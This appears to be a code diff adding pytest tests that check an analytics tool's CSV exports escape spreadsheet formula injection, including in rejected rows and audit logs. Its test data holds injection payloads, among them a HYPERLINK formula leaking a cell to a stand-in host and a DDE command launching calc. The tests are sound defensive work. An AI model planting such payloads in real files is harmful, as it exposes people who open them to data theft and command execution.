@@ -201,3 +201,49 @@ def test_influencers_query(tmp_path, write, capsys):
     lines = capsys.readouterr().out.splitlines()
     assert lines[0].startswith("user_id,pagerank,reach_users,reach_gmv,community")
     assert lines[1].startswith("a,") and ",2,0.0," in lines[1]
+
+
+HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"]
+
+
+def test_every_csv_the_command_line_writes_is_formula_safe(tmp_path, capsys):
+    import csv
+    import io
+
+    from engine import audit, warehouse
+
+    source = tmp_path / "hostile.csv"
+    with source.open("w", newline="", encoding="utf-8") as handle:
+        out = csv.writer(handle)
+        out.writerow(["user_id", "event_type", "event_time", "amount"])
+        for user in HOSTILE_IDS:
+            out.writerow([user, "purchase", "2024-01-08 10:00:00", "20"])
+        out.writerow(["=cmd|' /C calc'!A0", "view", "not a time", ""])  # rejected: its raw line is exported
+    db = str(tmp_path / "hostile.duckdb")
+    assert main(["--warehouse", db, "ingest", str(source), "--keep-personal"]) == 0
+    capsys.readouterr()
+
+    def csv_rows(*command) -> list[dict]:
+        assert main(["--warehouse", db, *command]) == 0
+        return list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+
+    users = {row["user_id"] for row in csv_rows("query", "rfm", "--to", "2024-01-08", "--format", "csv")}
+    assert users == {"'" + user for user in HOSTILE_IDS}
+    rejected = csv_rows("rejects", "1")
+    assert len(rejected) == 1 and rejected[0]["user_id"] == "'=cmd|' /C calc'!A0"
+    with warehouse.connect(db) as con:  # a failed sign-in's actor is whatever was typed as the name
+        audit.record(con, "@SUM(1+1)", "sign_in_failed", "wrong name or password", ok=False)
+    actors = {row["actor"] for row in csv_rows("audit", "--format", "csv")}
+    assert "'@SUM(1+1)" in actors and "@SUM(1+1)" not in actors
+
+
+def test_negative_numbers_stay_numbers_in_csv():
+    import io
+
+    import pandas as pd
+
+    from engine.export import write_csv
+
+    out = io.StringIO()
+    write_csv(pd.DataFrame({"user_id": ["-1+1", "-5", "u1"], "amount": [-1.5, 2.0, -3.0], "n": [-1, 0, 2]}), out)
+    assert out.getvalue().splitlines() == ["user_id,amount,n", "'-1+1,-1.5,-1", "'-5,2.0,0", "u1,-3.0,2"]
